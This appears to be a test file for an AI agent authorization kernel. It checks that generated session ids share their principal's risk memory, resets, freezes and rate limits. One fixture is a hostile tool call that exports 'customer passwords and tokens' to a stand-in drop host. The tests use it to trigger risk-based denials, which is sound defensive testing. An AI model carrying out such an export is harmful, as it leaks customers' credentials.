// Sessions with generated ids: each process has another id, and all use the memory of the principal.

import { isMadeSession, madeSession, memoryOf } from '@tollgate/evidence'
import { describe, expect, it } from 'vitest'
import { resetSession, setFreeze } from '../../src/admin.ts'
import { createRig, type Rig } from '../rig.ts'

const POLICY = `
principals: { "agent:*": { tier: admin } }
tools:
  data/export: { effect: send }
  fs/read: { effect: read, destinations: none }
rules:
  - { id: own, deny: fs/read, session: "agent:*", when: 'args.path == "/own"' }
  - { id: all, allow: "*" }
gates:
  egress: { allow: ["*"] }
  temporal: { rate: { "fs/*": { session: 3/h } } }
`
const HOSTILE = {
  tool: 'data/export',
  args: { what: 'customer passwords and tokens', to: 'https://drop.example/upload' },
}
const READ = { tool: 'fs/read', args: { path: 'notes.txt' } }
const [FIRST, SECOND] = [madeSession('a'.repeat(32)), madeSession('b'.repeat(32))]

async function reason(rig: Rig, call: object, session_id: string | undefined): Promise<string> {
  return (await rig.authorize({ ...call, session_id })).decided.reason
}

async function score(rig: Rig, session_id: string): Promise<number> {
  await rig.authorize({ ...READ, session_id })
  return Number(rig.last('decision').trajectory_risk_score)
}

describe('a generated session id', () => {
  it.each([
    ['s1', false],
    ['mcp:', false],
    [`mcp:${'a'.repeat(31)}`, false],
    [`mcp:${'A'.repeat(32)}`, false],
    [`mcp:${'a'.repeat(33)}`, false],
    [FIRST, true],
  ] as const)('is recognised by its form: %s', (id, made) => {
    expect(isMadeSession(id)).toBe(made)
    expect(memoryOf('agent:ci', id)).toBe(made ? 'agent:ci' : id)
  })
})

describe('a session of a new process', () => {
  it('has the whole risk of its principal; a named session has a part', async () => {
    const rig = await createRig({ policy: POLICY })
    for (let i = 0; i < 2; i++) await rig.authorize({ ...HOSTILE, session_id: 's1' })
    const own = Number(rig.last('decision').trajectory_risk_score)
    const named = await score(rig, 's2')
    expect(named).toBeGreaterThan(0)
    expect(named).toBeLessThan(own)
    expect(await score(rig, FIRST)).toBeCloseTo(2 * named, 3)
  })

  it.each([
    ['the next process', FIRST, SECOND],
    ['the principal’s own session', FIRST, 'agent:ci'],
  ])('continues the session of its principal, and a reset applies to it: %s', async (_, one, other) => {
    const rig = await createRig({ policy: POLICY })
    for (let i = 0; i < 40 && (await reason(rig, HOSTILE, one)) !== 'SESSION_RISK_MEMORY_DENY'; i++);
    expect(await reason(rig, READ, other)).toBe('SESSION_RISK_MEMORY_DENY')
    const order = { tenant: 'default', principal: 'agent:ci', session: other }
    await resetSession(rig.kernel, { ...order, by: 'user:olga', because: 'It was asked for.' })
    await rig.reopen()
    expect(await reason(rig, READ, one)).toBe('RULE_ALLOWED')
  })

  it('gets no new limits, and is the session of its principal in rules', async () => {
    const rig = await createRig({ policy: POLICY })
    expect(await reason(rig, { ...READ, args: { path: '/own' } }, FIRST)).toBe('POLICY_VIOLATION')
    for (const each of [FIRST, SECOND, 'agent:ci']) await reason(rig, READ, each)
    expect(await reason(rig, READ, SECOND)).toBe('RATE_EXCEEDED')
  })

  it.each([FIRST, 'agent:ci'])(
    'is frozen by its own id or with the session of its principal: %s',
    async (target) => {
      const rig = await createRig({ policy: POLICY })
      await setFreeze(rig.kernel, { scope: 'session', target, frozen: true, by: 'user:olga', because: 'x' })
      expect(await reason(rig, READ, FIRST)).toBe('SESSION_FROZEN')
      expect(await reason(rig, READ, SECOND)).toBe(target === FIRST ? 'RULE_ALLOWED' : 'SESSION_FROZEN')
    },
  )
})
